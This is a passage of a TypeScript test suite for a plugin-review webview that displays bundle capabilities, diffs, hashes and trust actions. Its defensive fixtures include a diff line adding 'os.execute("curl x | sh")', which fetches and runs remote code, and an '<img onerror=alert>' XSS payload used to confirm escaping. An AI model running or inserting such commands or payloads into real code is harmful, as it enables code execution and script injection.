import { strict as assert } from 'node:assert';
import { openReviewPage, renderReview, type StandInElement } from './helpers/reviewWebview';
import type { ReviewViewModel, Shown } from '../../src/core/review/reviewModel';

const shown = (text: string, hidden = false): Shown => ({ text, hidden });
const TOKEN = `${'a'.repeat(64)}.${'b'.repeat(64)}`;

/** A review as the host builds it: a Codewhale plugin, first reviewed, nothing to show but its header. */
function model(over: Partial<ReviewViewModel> = {}): ReviewViewModel {
  return {
    id: 'workspace/abc/tools',
    header: {
      name: shown('tools'),
      system: 'Codewhale',
      icon: 'extensions',
      kind: 'plugin',
      scope: 'workspace',
      path: shown('.codewhale/plugins/tools'),
      decision: 'disabled',
      decisionText: 'Disabled: not trusted',
      reasons: [{ code: 'not_trusted', text: 'never reviewed' }],
      trust: 'untrusted',
      enabled: false,
      loadedUnreviewed: false,
      compatibility: null,
      description: null,
    },
    changes: null,
    capabilities: {
      mcp: [],
      networkHosts: [],
      hooks: [],
      hooksOptIn: null,
      hooksOptInText: null,
      hooksWhen: null,
      skills: [],
      commands: [],
      components: [],
    },
    contract: null,
    notCovered: [],
    files: [],
    diagnostics: [],
    diagnosticsNotShown: 0,
    hashes: {
      content: 'c'.repeat(64),
      capability: 'd'.repeat(64),
      token: TOKEN,
      codewhaleCommand: null,
      notComputable: '',
    },
    capabilitiesUnknown: null,
    actions: {
      trust: { enabled: true, why: null },
      enable: { enabled: false, why: shown('Trust it first.') },
      disable: null,
      revoke: { enabled: false, why: shown('No trust record.') },
      notices: [],
    },
    hiddenCount: 0,
    ...over,
  };
}
const header = (over: Partial<ReviewViewModel['header']>) => model({ header: { ...model().header, ...over } });

/**
 * An element and everything under it, one line each, as the person reads it: tag, classes
 * (the panel's colours: warn, muted, error, pills), id, its own text, tooltip, and the
 * state a control shows (disabled, open, a link's target).
 */
function outline(e: StandInElement, depth = 0): string[] {
  const x = e as StandInElement & {
    disabled?: boolean;
    open?: boolean;
    href?: string;
    colSpan?: number;
    scope?: string;
  };
  const line = [
    `${'  '.repeat(depth)}${e.tagName}${e.className ? `.${e.className.split(' ').join('.')}` : ''}${e.id ? `#${e.id}` : ''}`,
    e.text ? JSON.stringify(e.text) : '',
    e.title ? `title=${JSON.stringify(e.title)}` : '',
    x.disabled ? 'disabled' : '',
    x.open ? 'open' : '',
    x.href !== undefined ? `href=${x.href}` : '',
    x.colSpan !== undefined ? `colspan=${x.colSpan}` : '',
    x.scope ? `scope=${x.scope}` : '',
    ...['role', 'aria-hidden'].map((a) => (e.getAttribute(a) === null ? '' : `${a}=${e.getAttribute(a)}`)),
  ]
    .filter(Boolean)
    .join(' ');
  return [line, ...e.children.flatMap((c) => outline(c, depth + 1))];
}
const byTag = (root: StandInElement, tag: string) => [...root.all()].find((e) => e.tagName === tag) as StandInElement;
const byId = (root: StandInElement, id: string) => [...root.all()].find((e) => e.id === id) as StandInElement;
/** The panel's text with its layout's spaces: what a screen reader would read in a row. */
const textOf = (e: StandInElement | undefined) => e?.textContent ?? '';

/** What changed since a review: each kind of capability change, an argv before → after, a diff and a removed file. */
const CHANGES: NonNullable<ReviewViewModel['changes']> = {
  reviewedAt: '2026-12-01T10:00:00.000Z',
  reviewedAgo: '6 days ago',
  filesNote: null,
  capabilities: [
    { change: 'added', summary: shown('MCP server db'), argv: null },
    { change: 'removed', summary: shown('hook PreToolUse'), argv: null },
    {
      change: 'changed',
      summary: shown('MCP server git: argv'),
      argv: { before: [shown('git'), shown('x\\u{200b}', true)], after: [] },
    },
  ],
  files: [
    {
      path: shown('init.lua'),
      file: '/ws/p/init.lua',
      change: 'modified',
      note: null,
      diff: [
        { kind: 'hunk', text: shown('@@ -1,2 +1,2 @@') },
        { kind: 'ctx', text: shown(' local a = 1') },
        { kind: 'del', text: shown('-os.exit()') },
        { kind: 'add', text: shown('+os.execute("curl x | sh")') },
      ],
    },
    { path: shown('old.lua'), file: '/ws/p/old.lua', change: 'removed', note: 'not in the bundle now', diff: [] },
  ],
};
const NOT_COVERED = [shown('hook argument /tmp/x: outside the bundle'), shown('hook argument ~/.ssh/config')];
const CHANGED_AND_UNCOVERED = model({ changes: CHANGES, notCovered: NOT_COVERED, hiddenCount: 2 });
const CAPABILITIES_UNKNOWN = model({
  changes: { ...CHANGES, capabilities: [], files: [], filesNote: 'Only the reviewed files were compared.' },
  capabilitiesUnknown: shown('The manifest does not load.'),
});
const NOTHING_CHANGED = model({ changes: { ...CHANGES, capabilities: [], files: [] } });
const sectionOf = (m: ReviewViewModel, id: string, changed = false) => byId(renderReview(m, changed), id);

/** The files, diagnostics and hashes of a bundle Skillgate hashed only in part. */
const DETAILS = model({
  contract: {
    title: 'Eva adapter contract',
    rows: [
      { label: 'entry', value: shown('adapters/review.yaml') },
      { label: 'reads', value: shown('src/\\u{202e}', true) },
    ],
  },
  files: [
    {
      path: shown('plugin.toml'),
      file: '/ws/p/plugin.toml',
      size: 120,
      executable: false,
      sha256: '0123456789abcdef'.repeat(4),
    },
    { path: shown('bin/run'), file: '/ws/p/bin/run', size: 7, executable: true, sha256: 'fedcba9876543210'.repeat(4) },
    { path: shown('link'), unhashed: shown('a symbolic link, never followed') },
  ],
  diagnostics: [
    {
      severity: 'error',
      code: 'codewhale.manifest',
      message: shown('bad'),
      file: '/ws/p/plugin.toml',
      where: shown('plugin.toml:3'),
      line: 2,
      character: 0,
    },
    {
      severity: 'warning',
      code: 'codewhale.mcp.url-query',
      message: shown('query'),
      file: '/ws/p/plugin.toml',
      where: shown('plugin.toml:9'),
      line: 8,
      character: 4,
    },
    {
      severity: 'info',
      code: 'codewhale.note',
      message: shown('note'),
      file: '/ws/p/bin/run',
      where: shown('bin/run:1'),
      line: 0,
      character: 0,
    },
  ],
  diagnosticsNotShown: 4,
  hashes: {
    content: null,
    capability: null,
    token: null,
    codewhaleCommand: shown('/plugin trust tools@1.0.0'),
    notComputable: 'the manifest does not load',
  },
});
/** Every capability a bundle can declare, each kind once or twice. */
const CAPABILITIES = model({
  capabilities: {
    mcp: [
      {
        id: shown('db'),
        transport: shown('stdio'),
        command: shown('node'),
        argv: [
          { index: 0, kind: 'plugin-path', value: shown('server.js') },
          { index: 1, kind: 'value', value: shown('--port=1') },
        ],
        cwd: shown('srv'),
        env: [{ destination: shown('DB_URL'), source: shown('HOST_DB') }],
        endpoint: null,
        host: null,
        authEnv: [],
        timeouts: ['startup 10s', 'tool 60s'],
        authority: 'runs as you, with your files and network',
        facts: [{ label: 'required', value: shown('yes') }],
        enabledTools: [shown('query'), shown('list')],
        disabledTools: [shown('drop')],
        enabled: true,
        state: { text: 'on', tone: 'on' },
      },
      {
        id: shown('api'),
        transport: shown('http'),
        command: null,
        argv: [],
        cwd: null,
        env: [],
        endpoint: shown('https://api.example.com/mcp'),
        host: shown('api.example.com'),
        authEnv: [shown('Authorization: Bearer ${TOKEN}')],
        timeouts: [],
        authority: null,
        facts: [],
        enabledTools: [],
        disabledTools: [],
        enabled: false,
        state: { text: 'off: the bundle is not active', tone: 'muted' },
      },
      {
        id: shown('bare'),
        transport: shown('stdio'),
        command: shown('bare'),
        argv: [],
        cwd: null,
        env: [],
        endpoint: shown('http://h'),
        host: null,
        authEnv: [],
        timeouts: [],
        authority: null,
        facts: [],
        enabledTools: [],
        disabledTools: [],
        enabled: false,
        state: { text: 'off', tone: 'off' },
      },
    ],
    networkHosts: [shown('api.example.com'), shown('db.example.com')],
    hooks: [
      {
        event: 'PreToolUse',
        argv: [shown('sh'), shown('hooks/check.sh')],
        timeoutSeconds: 30,
        tools: [shown('Bash'), shown('Edit')],
        cwd: 'the workspace folder',
        files: [
          { path: shown('hooks/check.sh'), covered: true, note: shown('covered: hashed with the bundle') },
          { path: shown('/tmp/x'), covered: false, note: shown('not covered: outside the bundle') },
        ],
        afterRun: 'then denies whatever it answered',
      },
      {
        event: 'Stop',
        argv: [shown('true')],
        timeoutSeconds: 5,
        tools: [],
        cwd: 'the workspace folder',
        files: [],
        afterRun: null,
      },
    ],
    hooksOptIn: false,
    hooksOptInText: 'RIVUMI_HOOKS is not set here: these hooks do not run.',
    hooksWhen: 'Rivumi runs these when RIVUMI_HOOKS=1.',
    skills: [
      {
        name: shown('review'),
        description: shown('Reviews code'),
        body: shown('Read the diff\\u{200b}', true),
        bodyLabel: 'Show the skill',
      },
      { name: shown('plain'), description: shown('No body'), body: null, bodyLabel: 'unused' },
    ],
    commands: [
      { name: shown('/deploy'), body: shown('ship it') },
      { name: shown('/noop'), body: null },
    ],
    components: [
      { kind: 'skills', inactive: false, active: true, activity: 'active', paths: [shown('skills/'), shown('more/')] },
      {
        kind: 'hooks',
        inactive: true,
        active: false,
        activity: 'not active: the bundle is not trusted and enabled',
        paths: [],
      },
    ],
  },
});

/**
 * The review panel's script (src/extension/review/webview/), bundled as media/review.js is
 * and run over the stand-in DOM: what the person reads before trusting a bundle, and what
 * each button asks the host. Every bundle string is text (never markup), flagged where it
 * held invisible characters; the header says the trust state as it is; the buttons offered
 * are the ones the host decided on, and Trust sends exactly the token the page shows.
 */
describe('the review panel script', () => {
  it('shows every bundle string as text, never as markup', () => {
    const x = (where: string) => shown(`<img src=x onerror="alert('${where}')">`);
    const m = model({
      header: { ...model().header, name: x('name'), path: x('path'), description: x('description') },
      notCovered: [x('not covered')],
      capabilities: {
        ...model().capabilities,
        networkHosts: [x('host')],
        skills: [{ name: x('skill'), description: x('skill description'), body: x('skill body'), bodyLabel: 'Show' }],
        commands: [{ name: x('command'), body: x('command body') }],
        components: [{ kind: 'skills', inactive: false, active: true, activity: 'active', paths: [x('component')] }],
      },
      contract: { title: 'Contract', rows: [{ label: 'entry', value: x('contract') }] },
      files: [
        { path: x('file'), file: '/ws/f', size: 1, executable: false, sha256: 'e'.repeat(64) },
        { path: x('unhashed file'), unhashed: x('why unhashed') },
      ],
      diagnostics: [
        {
          severity: 'error',
          code: 'c',
          message: x('message'),
          file: '/ws/f',
          where: x('where'),
          line: 2,
          character: 0,
        },
      ],
      hashes: { ...model().hashes, codewhaleCommand: x('codewhale command') },
      capabilitiesUnknown: x('capabilities unknown'),
      actions: { ...model().actions, notices: [x('notice')] },
      changes: {
        reviewedAt: '2026-12-01T00:00:00Z',
        reviewedAgo: '6 days ago',
        filesNote: null,
        capabilities: [
          { change: 'changed', summary: x('summary'), argv: { before: [x('before')], after: [x('after')] } },
        ],
        files: [
          {
            path: x('changed file'),
            file: '/ws/g',
            change: 'modified',
            note: null,
            diff: [{ kind: 'add', text: x('diff') }],
          },
        ],
      },
    });
    const panel = renderReview(m);
    const texts = new Set([...panel.all()].map((e) => e.text));
    const missing = [
      'name',
      'path',
      'description',
      'not covered',
      'host',
      'skill',
      'skill description',
      'skill body',
      'command',
      'command body',
      'component',
      'contract',
      'file',
      'unhashed file',
      'why unhashed',
      'message',
      'where',
      'codewhale command',
      'capabilities unknown',
      'notice',
      'summary',
      'before',
      'after',
      'changed file',
      'diff',
    ].filter((w) => !texts.has(x(w).text));
    assert.deepEqual(missing, []);
    assert.deepEqual(
      [...panel.all()].filter((e) => !/^[a-z0-9#]+$/.test(e.tagName) || e.tagName === 'img'),
      [],
    );
  });
  it('heads the review with the bundle, where it lives, its decision with every reason, its trust and its actions', () => {
    assert.deepEqual(outline(byTag(renderReview(model()), 'header')), [
      'header',
      '  h1',
      '    span.codicon.codicon-extensions aria-hidden=true',
      '    span "tools"',
      '  div.meta',
      '    span.pill "Codewhale plugin"',
      '    span.pill "workspace"',
      '    span.pill.mono ".codewhale/plugins/tools"',
      '  div.decision.decision-disabled',
      '    strong "Disabled: not trusted"',
      '    ul.reasons',
      '      li',
      '        code "not_trusted"',
      '        span " never reviewed"',
      '  div.state',
      '    span.pill.trust-untrusted "trust: untrusted"',
      '    span.pill.off "not enabled"',
      '  div.actions',
      '    button.primary title="Trust exactly what this review shows"',
      '      span.codicon.codicon-verified aria-hidden=true',
      '      span "Trust…"',
      '    button.secondary title="Trust it first." disabled',
      '      span.codicon.codicon-debug-start aria-hidden=true',
      '      span "Enable"',
      '    button.secondary title="No trust record." disabled',
      '      span.codicon.codicon-circle-slash aria-hidden=true',
      '      span "Revoke"',
      '    button.secondary title="Copy the review token"',
      '      span.codicon.codicon-copy aria-hidden=true',
      '      span "Copy review token"',
      '  div.status#status role=status',
    ]);
    const rich = model({
      header: {
        ...model().header,
        name: shown('to\\u{202e}ols', true),
        compatibility: 'partial',
        description: shown('Repo tools'),
        loadedUnreviewed: true,
        decision: 'registered',
        decisionText: 'Loaded',
        reasons: [
          { code: 'loaded_unreviewed', text: 'loaded, never reviewed' },
          { code: 'hooks', text: 'runs hooks' },
        ],
      },
      actions: {
        trust: { enabled: false, why: shown('Restricted Mode') },
        enable: null,
        disable: { enabled: true, why: null },
        revoke: { enabled: true, why: null },
        notices: [shown('Restricted Mode: trust the workspace')],
      },
      hashes: { ...model().hashes, token: null, codewhaleCommand: shown('/plugin trust tools') },
    });
    assert.deepEqual(outline(byTag(renderReview(rich), 'header')), [
      'header',
      '  h1',
      '    span.codicon.codicon-extensions aria-hidden=true',
      '    span',
      '      span.hidden-chars "to\\\\u{202e}ols" title="Contains invisible or bidirectional characters, shown as \\\\u{…}"',
      '      span.flag "hidden characters"',
      '  div.meta',
      '    span.pill "Codewhale plugin"',
      '    span.pill "workspace"',
      '    span.pill.mono ".codewhale/plugins/tools"',
      '    span.pill "compatibility partial"',
      '  p.description',
      '    span "Repo tools"',
      '  div.decision.decision-registered.loaded-unreviewed',
      '    strong "Loaded"',
      '    ul.reasons',
      '      li',
      '        code "loaded_unreviewed"',
      '        span " loaded, never reviewed"',
      '      li',
      '        code "hooks"',
      '        span " runs hooks"',
      '  div.state',
      '    span.pill.trust-untrusted "trust: untrusted"',
      '    span.pill.off "not enabled"',
      '    span.pill.risk "loaded · not reviewed"',
      '  div.actions',
      '    button.secondary title="Restricted Mode" disabled',
      '      span.codicon.codicon-verified aria-hidden=true',
      '      span "Trust…"',
      '    button.secondary title="Deactivate this bundle; its trust is kept"',
      '      span.codicon.codicon-debug-stop aria-hidden=true',
      '      span "Disable"',
      '    button.secondary title="Remove the trust receipt"',
      '      span.codicon.codicon-circle-slash aria-hidden=true',
      '      span "Revoke"',
      '    button.secondary title="No review token: the bundle cannot be hashed" disabled',
      '      span.codicon.codicon-copy aria-hidden=true',
      '      span "Copy review token"',
      '    button.secondary',
      '      span.codicon.codicon-terminal aria-hidden=true',
      '      span "Copy /plugin trust"',
      '  p.notice role=note',
      '    span.codicon.codicon-lock aria-hidden=true',
      '    span "Restricted Mode: trust the workspace"',
      '  div.status#status role=status',
    ]);
  });

  it('says the trust state as it is: enabled and active, enabled but not active, no switch, loaded unreviewed', () => {
    const state = (over: Partial<ReviewViewModel['header']>) =>
      outline([...renderReview(header(over)).all()].find((e) => e.className === 'state') as StandInElement).slice(1);
    assert.deepEqual(state({ trust: 'trusted', enabled: true, decision: 'registered' }), [
      '  span.pill.trust-trusted "trust: trusted"',
      '  span.pill.on "enabled"',
    ]);
    // Enabled, but the agent does not load it (it changed since): never green.
    assert.deepEqual(state({ trust: 'content-changed', enabled: true, decision: 'disabled' }), [
      '  span.pill.trust-content-changed "trust: content-changed"',
      '  span.pill.muted "enabled, but not active"',
    ]);
    assert.deepEqual(state({ trust: 'untrusted', enabled: false, decision: 'registered' }), [
      '  span.pill.trust-untrusted "trust: untrusted"',
      '  span.pill.off "not enabled"',
    ]);
    // Rivumi: no enable switch to show; what it loads unreviewed is shown as the risk it is.
    assert.deepEqual(state({ trust: 'untrusted', enabled: null, decision: 'registered', loadedUnreviewed: true }), [
      '  span.pill.trust-untrusted "trust: untrusted"',
      '  span.pill.risk "loaded · not reviewed"',
    ]);
  });

  it('asks the host for exactly the action clicked, and Trust for the token the page shows', () => {
    const page = openReviewPage();
    const click = (label: string) => {
      const b = [...page.root.all()].find((e) => e.tagName === 'button' && textOf(e) === label);
      assert.ok(b, `a ${label} button`);
      b.dispatch('click');
    };
    page.receive({
      type: 'render',
      model: model({
        actions: {
          ...model().actions,
          enable: { enabled: true, why: null },
          disable: { enabled: true, why: shown('x\\u{200b}', true) },
          revoke: { enabled: true, why: null },
        },
        hashes: { ...model().hashes, codewhaleCommand: shown('/plugin trust tools') },
      }),
      changed: false,
    });
    for (const label of ['Trust…', 'Enable', 'Disable', 'Revoke', 'Copy review token', 'Copy /plugin trust'])
      click(label);
    assert.deepEqual(page.posted, [
      { type: 'ready' },
      { type: 'trust', token: TOKEN },
      { type: 'enable' },
      { type: 'disable' },
      { type: 'revoke' },
      { type: 'copyToken' },
      { type: 'copyCodewhaleCommand' },
    ]);
    // Each button says what it does, or why it does not; the Copy /plugin trust button's label says it all.
    assert.deepEqual(
      [...page.root.all()].filter((e) => e.tagName === 'button').map((e) => [textOf(e), e.title]),
      [
        ['Trust…', 'Trust exactly what this review shows'],
        ['Enable', 'Activate this bundle'],
        ['Disable', 'x\\u{200b} (Contains invisible or bidirectional characters, shown as \\u{…})'],
        ['Revoke', 'Remove the trust receipt'],
        ['Copy review token', 'Copy the review token'],
        ['Copy /plugin trust', ''],
      ],
    );
    // A tooltip cannot hold the flag: said in words.
    const disable = [...page.root.all()].find((e) => e.tagName === 'button' && textOf(e) === 'Disable');
    assert.equal(disable?.title, 'x\\u{200b} (Contains invisible or bidirectional characters, shown as \\u{…})');
    // No token (the bundle cannot be hashed): Trust has nothing to send.
    page.receive({ type: 'render', model: model({ hashes: { ...model().hashes, token: null } }), changed: false });
    page.posted.length = 0;
    click('Trust…');
    assert.deepEqual(page.posted, []);
  });
  it('lists first what trust cannot cover, each as an error, and nothing when trust covers all', () => {
    assert.deepEqual(outline(sectionOf(CHANGED_AND_UNCOVERED, 'not-covered')), [
      'section#not-covered',
      '  h2',
      '    span.codicon.codicon-error aria-hidden=true',
      '    span "Not covered by this trust (2): trust is refused"',
      '  ul',
      '    li.diag.diag-error',
      '      span "hook argument /tmp/x: outside the bundle"',
      '    li.diag.diag-error',
      '      span "hook argument ~/.ssh/config"',
    ]);
    assert.equal(sectionOf(model(), 'not-covered'), undefined);
  });

  it('puts the banners first, then the header, what trust cannot cover, what changed, and the rest', () => {
    const order = (m: ReviewViewModel, changed: boolean) =>
      renderReview(m, changed).children.map((c) => c.id || c.className || c.tagName);
    assert.deepEqual(order({ ...CHANGED_AND_UNCOVERED, contract: { title: 'Contract', rows: [] } }, true), [
      'banner changed',
      'banner hidden',
      'header',
      'not-covered',
      'changes',
      'contract',
      'capabilities',
      'files',
      'diagnostics',
      'hashes',
    ]);
    assert.deepEqual(order(model(), false), ['header', 'capabilities', 'files', 'diagnostics', 'hashes']);
    const banners = renderReview(CHANGED_AND_UNCOVERED, true).children.slice(0, 2);
    assert.deepEqual(
      banners.flatMap((b) => outline(b)),
      [
        'div.banner.changed',
        '  span.codicon.codicon-warning aria-hidden=true',
        '  span "This bundle changed on disk while this review was open. The review below shows it as it is now. If you trusted it before the change, that trust covered only the earlier version and no longer applies."',
        'div.banner.hidden',
        '  span.codicon.codicon-eye aria-hidden=true',
        '  span "2 string(s) in this bundle contain invisible or bidirectional characters; they are shown as \\\\u{…} and flagged."',
      ],
    );
  });

  it('shows what changed since the review: capability changes, argv before and after, each file with its diff', () => {
    assert.deepEqual(outline(sectionOf(CHANGED_AND_UNCOVERED, 'changes')), [
      'section.highlight#changes',
      '  h2',
      '    span.codicon.codicon-diff aria-hidden=true',
      '    span "What changed since your last review"',
      '    span.reviewed-at.muted " (6 days ago)" title="2026-12-01T10:00:00.000Z"',
      '  h3 "Capabilities"',
      '  ul.changes',
      '    li.change-added',
      '      span.codicon.codicon-add aria-hidden=true',
      '      span "MCP server db"',
      '    li.change-removed',
      '      span.codicon.codicon-remove aria-hidden=true',
      '      span "hook PreToolUse"',
      '    li.change-changed',
      '      span.codicon.codicon-edit aria-hidden=true',
      '      span "MCP server git: argv"',
      '      div.argv-change',
      '        div.argv-line.before',
      '          span.argv-label "before"',
      '          span.argv',
      '            span.argtoken',
      '              span "git"',
      '            span.argtoken',
      '              span',
      '                span.hidden-chars "x\\\\u{200b}" title="Contains invisible or bidirectional characters, shown as \\\\u{…}"',
      '                span.flag "hidden characters"',
      '        div.argv-line.after',
      '          span.argv-label "after"',
      '          span.argv',
      '            span.muted "(none)"',
      '  h3 "Files"',
      '  details.file-change.change-modified',
      '    summary',
      '      span.tag.tag-modified "modified"',
      '      a.open-link href=#',
      '        span "init.lua"',
      '    pre.diff',
      '      div.diff-hunk',
      '        span "@@ -1,2 +1,2 @@"',
      '      div.diff-ctx',
      '        span " local a = 1"',
      '      div.diff-del',
      '        span "-os.exit()"',
      '      div.diff-add',
      '        span "+os.execute(\\"curl x | sh\\")"',
      '  details.file-change.change-removed',
      '    summary',
      '      span.tag.tag-removed "removed"',
      '      a.open-link href=#',
      '        span "old.lua"',
      '      span.muted " not in the bundle now"',
    ]);
    // Capabilities that cannot be read now are said in place of "no changes"; so is a comparison of the reviewed files only.
    assert.deepEqual(
      outline(sectionOf(CAPABILITIES_UNKNOWN, 'changes')).slice(5),
      [
        'section.highlight#changes',
        '  h2',
        '    span.codicon.codicon-diff aria-hidden=true',
        '    span "What changed since your last review"',
        '    span.reviewed-at.muted " (6 days ago)" title="2026-12-01T10:00:00.000Z"',
        '  h3 "Capabilities"',
        '  ul.changes',
        '    li.warn',
        '      span "The manifest does not load."',
        '  h3 "Files"',
        '  p.warn "Only the reviewed files were compared."',
        '  p.muted "None of the files you reviewed changed."',
      ].slice(5),
    );
    assert.deepEqual(
      outline(sectionOf(NOTHING_CHANGED, 'changes')).slice(5),
      [
        'section.highlight#changes',
        '  h2',
        '    span.codicon.codicon-diff aria-hidden=true',
        '    span "What changed since your last review"',
        '    span.reviewed-at.muted " (6 days ago)" title="2026-12-01T10:00:00.000Z"',
        '  h3 "Capabilities"',
        '  ul.changes',
        '    li.muted "No capability changes."',
        '  h3 "Files"',
        '  p.muted "No file changes."',
      ].slice(5),
    );
    assert.equal(sectionOf(model(), 'changes'), undefined, 'a first review');
  });

  it('opens a changed file from its link, and keeps its diff open across renders and a restored panel', () => {
    const page = openReviewPage();
    page.receive({ type: 'render', model: CHANGED_AND_UNCOVERED, changed: false });
    const change = (path: string) =>
      [...page.root.all()].find(
        (e) => e.tagName === 'details' && textOf(e.children[0]).includes(path),
      ) as StandInElement & { open: boolean };
    const link = [...change('init.lua').all()].find((e) => e.tagName === 'a') as StandInElement;
    link.dispatch('click');
    assert.deepEqual(page.posted.at(-1), { type: 'open', file: '/ws/p/init.lua', line: 0 });
    assert.deepEqual([change('init.lua').open, change('old.lua').open], [false, false]);
    change('init.lua').open = true;
    change('init.lua').dispatch('toggle');
    page.receive({ type: 'render', model: CHANGED_AND_UNCOVERED, changed: false });
    assert.deepEqual([change('init.lua').open, change('old.lua').open], [true, false]);
    assert.deepEqual(page.saved.at(-1), { id: CHANGED_AND_UNCOVERED.id, open: ['/ws/p/init.lua'] });
    change('init.lua').open = false;
    change('init.lua').dispatch('toggle');
    page.receive({ type: 'render', model: CHANGED_AND_UNCOVERED, changed: false });
    assert.deepEqual([change('init.lua').open, page.saved.at(-1)], [false, { id: CHANGED_AND_UNCOVERED.id, open: [] }]);

    const restored = openReviewPage({ id: CHANGED_AND_UNCOVERED.id, open: ['/ws/p/old.lua'] });
    restored.receive({ type: 'render', model: CHANGED_AND_UNCOVERED, changed: false });
    const opened = [...restored.root.all()].filter((e) => e.tagName === 'details' && (e as { open?: boolean }).open);
    assert.deepEqual(
      opened.map((e) => textOf(e.children[0])),
      ['removedold.lua not in the bundle now'],
    );
  });

  it('shows a status before any review as the whole panel, and an action’s outcome under the header, once more after it', () => {
    const page = openReviewPage();
    page.receive({ type: 'unknown', text: 'not a status', error: true });
    assert.deepEqual(page.root.children, [], 'neither a render nor a status: nothing shown');
    page.receive({ type: 'status', text: 'Reading the bundle.', error: false });
    assert.deepEqual(
      page.root.children.flatMap((c) => outline(c)),
      ['p.status.ok#status "Reading the bundle."'],
    );
    page.receive({ type: 'status', text: 'This bundle is gone from disk.', error: true });
    assert.deepEqual(
      page.root.children.flatMap((c) => outline(c)),
      ['p.status.error#status "This bundle is gone from disk."'],
    );
    page.receive({ type: 'render', model: model(), changed: false });
    const status = () => outline(byId(page.root, 'status'));
    assert.deepEqual(status(), ['div.status#status role=status'], 'not repeated by the review');
    page.receive({ type: 'status', text: 'Trusted tools.', error: false });
    assert.deepEqual(status(), ['div.status.ok#status "Trusted tools." role=status']);
    page.receive({ type: 'render', model: model(), changed: false });
    assert.deepEqual(
      status(),
      ['div.status.ok#status "Trusted tools." role=status'],
      'the render that follows the action',
    );
    page.receive({ type: 'render', model: model(), changed: false });
    assert.deepEqual(status(), ['div.status#status role=status'], 'once');
    page.receive({ type: 'status', text: 'No review token.', error: true });
    assert.deepEqual(status(), ['div.status.error#status "No review token." role=status']);
  });
  it('lists the files, each hashed one a link to open, and says which could not be hashed and why', () => {
    assert.deepEqual(outline(sectionOf(DETAILS, 'files')), [
      'section#files',
      '  h2',
      '    span.codicon.codicon-files aria-hidden=true',
      '    span "Files (3, 1 not hashed)"',
      '  table.files',
      '    tr',
      '      td.wraps',
      '        a.open-link href=#',
      '          span "plugin.toml"',
      '      td.num "120"',
      '      td.mono',
      '      td.mono.hash "0123456789abcdef"',
      '    tr',
      '      td.wraps',
      '        a.open-link href=#',
      '          span "bin/run"',
      '      td.num "7"',
      '      td.mono "x"',
      '      td.mono.hash "fedcba9876543210"',
      '    tr',
      '      td.wraps',
      '        span "link"',
      '      td.num "?"',
      '      td.mono',
      '      td.warn "not hashed: "',
      '        span "a symbolic link, never followed"',
    ]);
    assert.deepEqual(
      outline(sectionOf(model(), 'files')).slice(0, 4),
      [
        'section#files',
        '  h2',
        '    span.codicon.codicon-files aria-hidden=true',
        '    span "Files (0)"',
        '  table.files',
      ].slice(0, 4),
    );
  });

  it('lists the diagnostics by severity, each with its place to open, and counts those not listed', () => {
    assert.deepEqual(outline(sectionOf(DETAILS, 'diagnostics')), [
      'section#diagnostics',
      '  h2',
      '    span.codicon.codicon-warning aria-hidden=true',
      '    span "Diagnostics (7)"',
      '  div.diag.diag-error',
      '    span.codicon.codicon-error aria-hidden=true',
      '    code "codewhale.manifest"',
      '    span "bad"',
      '    span.muted " "',
      '    a.open-link href=#',
      '      span "plugin.toml:3"',
      '  div.diag.diag-warning',
      '    span.codicon.codicon-warning aria-hidden=true',
      '    code "codewhale.mcp.url-query"',
      '    span "query"',
      '    span.muted " "',
      '    a.open-link href=#',
      '      span "plugin.toml:9"',
      '  div.diag.diag-info',
      '    span.codicon.codicon-info aria-hidden=true',
      '    code "codewhale.note"',
      '    span "note"',
      '    span.muted " "',
      '    a.open-link href=#',
      '      span "bin/run:1"',
      '  p.muted "… and 4 more, not listed here: the Problems panel and `skillgate validate` list them, up to 100 a file."',
    ]);
    assert.deepEqual(outline(sectionOf(model(), 'diagnostics')), [
      'section#diagnostics',
      '  h2',
      '    span.codicon.codicon-warning aria-hidden=true',
      '    span "Diagnostics (0)"',
      '  p.muted "None."',
    ]);
    const page = openReviewPage();
    page.receive({ type: 'render', model: DETAILS, changed: false });
    for (const e of byId(page.root, 'diagnostics').all()) if (e.tagName === 'a') e.dispatch('click');
    for (const e of byId(page.root, 'files').all()) if (e.tagName === 'a') e.dispatch('click');
    assert.deepEqual(page.posted.slice(1), [
      { type: 'open', file: '/ws/p/plugin.toml', line: 2 },
      { type: 'open', file: '/ws/p/plugin.toml', line: 8 },
      { type: 'open', file: '/ws/p/bin/run', line: 0 },
      { type: 'open', file: '/ws/p/plugin.toml', line: 0 },
      { type: 'open', file: '/ws/p/bin/run', line: 0 },
    ]);
  });

  it('shows the hashes and the token, or why they cannot be computed, the contract and the /plugin trust command', () => {
    assert.deepEqual(outline(sectionOf(DETAILS, 'hashes')), [
      'section#hashes',
      '  h2',
      '    span.codicon.codicon-key aria-hidden=true',
      '    span "Content hash, capability hash, review token"',
      '  dl',
      '    dt "content hash"',
      '    dd.muted "not computable: the manifest does not load"',
      '    dt "capability hash"',
      '    dd.muted "not computable: the manifest does not load"',
      '    dt "review token"',
      '    dd.muted "not computable: the manifest does not load"',
      '    dt "Codewhale"',
      '    dd.mono',
      '      span "/plugin trust tools@1.0.0"',
    ]);
    assert.deepEqual(outline(sectionOf(model(), 'hashes')), [
      'section#hashes',
      '  h2',
      '    span.codicon.codicon-key aria-hidden=true',
      '    span "Content hash, capability hash, review token"',
      '  dl',
      '    dt "content hash"',
      '    dd.mono "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc"',
      '    dt "capability hash"',
      '    dd.mono "dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd"',
      '    dt "review token"',
      '    dd.mono "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"',
    ]);
    assert.deepEqual(outline(sectionOf(DETAILS, 'contract')), [
      'section#contract',
      '  h2',
      '    span.codicon.codicon-symbol-interface aria-hidden=true',
      '    span "Eva adapter contract"',
      '  dl',
      '    dt "entry"',
      '    dd',
      '      span "adapters/review.yaml"',
      '    dt "reads"',
      '    dd',
      '      span',
      '        span.hidden-chars "src/\\\\u{202e}" title="Contains invisible or bidirectional characters, shown as \\\\u{…}"',
      '        span.flag "hidden characters"',
    ]);
  });

  it('shows each capability: MCP servers, network hosts, hooks with the files they run, skills, commands, components', () => {
    assert.deepEqual(outline(sectionOf(CAPABILITIES, 'capabilities')), [
      'section#capabilities',
      '  h2',
      '    span.codicon.codicon-plug aria-hidden=true',
      '    span "Capabilities"',
      '  h3 "MCP servers"',
      '  div.card',
      '    div.card-title',
